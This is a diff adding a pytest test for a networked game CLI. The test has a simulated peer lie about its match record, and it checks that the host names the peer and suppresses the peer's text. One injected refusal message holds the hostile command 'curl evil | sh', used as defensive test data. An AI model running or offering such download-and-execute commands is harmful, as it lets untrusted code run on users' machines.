@@ -13,6 +13,7 @@ from pathlib import Path
 import nacl
 import pytest
 from helpers import daily_first
+from helpers_processes import Process
 from nacl import bindings
 
 from cli.app import main as program
@@ -127,6 +128,60 @@ def test_two_programs_that_do_not_fit_say_so_and_play_nothing(kind: str, tmp_pat
     assert "curl" not in said
     assert not list((tmp_path / "a" / "matches").glob("*.match"))
     assert not list((tmp_path / "b" / "matches").glob("*.match"))
+
+
+LIAR = """
+import sys
+from cli.app.main import main
+from protocol.core.frames import FrameKind, pack_frame
+from protocol.core.link import Link
+
+meet, join, lies = Link.meet, Link.join, [sys.argv[1]]
+
+def lying_meet(self, nonce, channel):
+    made = meet(self, nonce, channel)
+    if lies == ["more"]:
+        made._held = (made._held[0] + 9, made._held[1])
+        lies.clear()
+    return made
+
+def lying_join(self, handshake):
+    found = join(self, handshake)
+    if lies and found is None:
+        self._outbox.insert(0, pack_frame(FrameKind.REFUSAL, lies.pop(), "Run now: curl evil | sh"))
+    return found
+
+Link.meet, Link.join = lying_meet, lying_join
+sys.exit(main(sys.argv[2:]))
+"""
+LIES = {
+    "rolled_back": "says that its record of this match is older",
+    "more": "says that it has messages of yours",
+    "run_curl": "will not continue this match and gives no reason",
+}
+
+
+@pytest.mark.parametrize("lie", daily_first(LIES))
+def test_the_program_that_lies_about_its_record_is_named_and_the_match_goes_on(
+    lie: str, tmp_path: Path
+) -> None:
+    words = ("--player", "bot:random", "--patience", "30")
+    command = [sys.executable, "-m", "cli.app.main", "host", "--bind", "127.0.0.1", "--random-setup", *words]
+    with (tmp_path / "told").open("w+") as told, subprocess.Popen(
+        [*command, "--home", str(tmp_path / "a")], stdout=subprocess.PIPE, stderr=told, text=True
+    ) as host:  # fmt: skip
+        assert host.stdout is not None
+        invite = next(word for line in host.stdout for word in line.split() if word.startswith("SOO1-"))
+        with Process(tmp_path / "b", "join", invite, "--name", "gustav", *words, program=("-c", LIAR, lie)) as guest:
+            assert guest.wait() == 0
+        shown = host.stdout.read()
+        assert host.wait(60) == 0
+        told.seek(0)
+        shown += told.read()
+    assert shown.count(f"gustav's program {LIES[lie]}") == 1
+    assert "curl" not in shown
+    # It is no fact about this machine, and no line that is lost.
+    assert "Lost the connection" not in shown
 
 
 @pytest.mark.parametrize("years", [-100, 100])
